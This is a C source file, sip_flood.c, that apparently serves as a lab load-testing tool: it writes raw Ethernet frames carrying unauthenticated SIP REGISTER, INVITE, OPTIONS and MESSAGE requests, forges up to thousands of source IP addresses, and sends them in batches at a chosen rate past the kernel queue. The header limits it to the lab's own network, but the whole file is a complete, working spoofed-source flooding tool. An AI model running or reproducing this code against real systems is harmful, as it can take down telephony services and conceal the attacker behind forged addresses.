/* SPDX-License-Identifier: BSD-3-Clause */
/* sip_flood.c: requests that prove nothing, from as many forged sources as wanted, at a given pace. Says as one line of
 * JSON how many. For the lab's own wires only. */
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "alg/base/addr.h"
#include "alg/net/checksum.h"

enum { BATCH = 64, IP_HEADER = 20, UDP_HEADER = 8, TEXT = 640, FRAME = ETH_HLEN + IP_HEADER + UDP_HEADER + TEXT };

struct options {
	const char *device, *mac;
	struct addr source, target; /* the first source; its port is that of all */
	unsigned sources, rate, seconds;
};

struct burst {
	uint8_t frame[BATCH][FRAME];
	unsigned len[BATCH];
};

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

/* No two are alike, nor do two of one source follow each other. */
static unsigned text_write(char *p, const struct options *o, unsigned number)
{
	static const char *const methods[] = { "REGISTER", "INVITE", "OPTIONS", "MESSAGE" };
	const char *method = methods[number / 7 % 4];
	char target[ADDR_TEXT_MAX];

	addr_text(&o->target, target);
	return (unsigned)snprintf(p, TEXT,
				  "%s sip:u%u@%s SIP/2.0\r\nVia: SIP/2.0/UDP 192.168.1.9:5060;branch=z9hG4bK%08x\r\n"
				  "Max-Forwards: 70\r\nFrom: <sip:u%u@%s>;tag=%08x\r\nTo: <sip:u%u@%s>\r\n"
				  "Call-ID: %08x@192.168.1.9\r\nCSeq: 1 %s\r\nContact: <sip:u%u@192.168.1.9>\r\n"
				  "User-Agent: phone of nobody\r\nExpires: 3600\r\nContent-Length: 0\r\n\r\n",
				  method, number % 1000, target, number, number % 1000, target, number, number % 1000,
				  target, number, method, number % 1000);
}

static unsigned frame_write(uint8_t *f, const struct options *o, unsigned number)
{
	uint8_t *ip = f + ETH_HLEN, *udp = ip + IP_HEADER;
	unsigned n = text_write((char *)udp + UDP_HEADER, o, number), total = IP_HEADER + UDP_HEADER + n;
	uint16_t sum;

	memset(ip, 0, IP_HEADER + UDP_HEADER);
	ip[0] = 0x45;
	put16(ip + 2, total);
	ip[8] = 64;
	ip[9] = IPPROTO_UDP;
	put32(ip + 12, get32(o->source.ip) + number % o->sources);
	memcpy(ip + 16, o->target.ip, 4);
	sum = checksum_field(checksum_add(0, ip, IP_HEADER));
	memcpy(ip + 10, &sum, 2);
	put16(udp, o->source.port);
	put16(udp + 2, o->target.port);
	put16(udp + 4, UDP_HEADER + n); /* without a checksum, as IPv4 allows (RFC 768) */
	return ETH_HLEN + total;
}

static uint64_t clock_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static unsigned burst_send(int fd, struct burst *b)
{
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	int sent;

	for (unsigned i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){ .iov_base = b->frame[i], .iov_len = b->len[i] };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	sent = sendmmsg(fd, messages, BATCH, 0);
	return sent > 0 ? (unsigned)sent : 0; /* what the wire does not take is lost, as on any wire */
}

static uint64_t flood(int fd, const struct options *o, struct burst *b)
{
	uint64_t begun = clock_us(), end = begun + (uint64_t)o->seconds * 1000000, sent = 0, made = 0;

	while (clock_us() < end) {
		uint64_t due = begun + made * 1000000 / o->rate, now = clock_us();

		if (due > now) {
			usleep((useconds_t)(due - now));
			continue;
		}
		for (unsigned i = 0; i < BATCH; i++)
			b->len[i] = frame_write(b->frame[i], o, (unsigned)made++);
		sent += burst_send(fd, b);
	}
	return sent;
}

static int wire_open(const char *device)
{
	const struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(device) };
	const int fd = socket(AF_PACKET, SOCK_RAW, 0), bypass = 1;

	if (fd < 0 || at.sll_ifindex == 0 || bind(fd, (const struct sockaddr *)&at, sizeof(at)) != 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass)) != 0) {
		perror("sip_flood: packet socket");
		exit(2);
	}
	return fd;
}

static int options_read(int argc, char **argv, struct options *o)
{
	static const struct option known[] = {
		{ "device", required_argument, NULL, 'd' },  { "mac", required_argument, NULL, 'm' },
		{ "source", required_argument, NULL, 's' },  { "target", required_argument, NULL, 't' },
		{ "sources", required_argument, NULL, 'n' }, { "rate", required_argument, NULL, 'r' },
		{ "seconds", required_argument, NULL, 'x' }, { NULL, 0, NULL, 0 },
	};
	int c;

	*o = (struct options){ .sources = 10000, .rate = 20000, .seconds = 5 };
	while ((c = getopt_long(argc, argv, "", known, NULL)) != -1) {
		if (c == 'd')
			o->device = optarg;
		else if (c == 'm')
			o->mac = optarg;
		else if (c == 's' || c == 't') {
			if (addr_parse(span_str(optarg), 5060, c == 's' ? &o->source : &o->target))
				return -1;
		} else if (c == 'n')
			o->sources = (unsigned)strtoul(optarg, NULL, 10);
		else if (c == 'r')
			o->rate = (unsigned)strtoul(optarg, NULL, 10);
		else if (c == 'x')
			o->seconds = (unsigned)strtoul(optarg, NULL, 10);
		else
			return -1;
	}
	return o->device && o->mac && o->source.family == ADDR_V4 && o->target.family == ADDR_V4 && o->sources &&
			       o->rate
		       ? 0
		       : -1;
}

int main(int argc, char **argv)
{
	static struct burst b;
	struct options o;
	unsigned mac[6];
	uint64_t sent;

	if (options_read(argc, argv, &o) ||
	    sscanf(o.mac, "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6) {
		fputs("usage: sip_flood --device NAME --mac MAC --source IP:PORT --target IP:PORT [--sources N] "
		      "[--rate N] [--seconds N]\n",
		      stderr);
		return 2;
	}
	for (unsigned i = 0; i < BATCH; i++) {
		for (unsigned k = 0; k < 6; k++)
			b.frame[i][k] = (uint8_t)mac[k];
		memset(b.frame[i] + ETH_ALEN, 2, ETH_ALEN);
		put16(b.frame[i] + 2 * ETH_ALEN, ETH_P_IP);
	}
	sent = flood(wire_open(o.device), &o, &b);
	printf("{\"sent\":%llu}\n", (unsigned long long)sent);
	return 0;
}
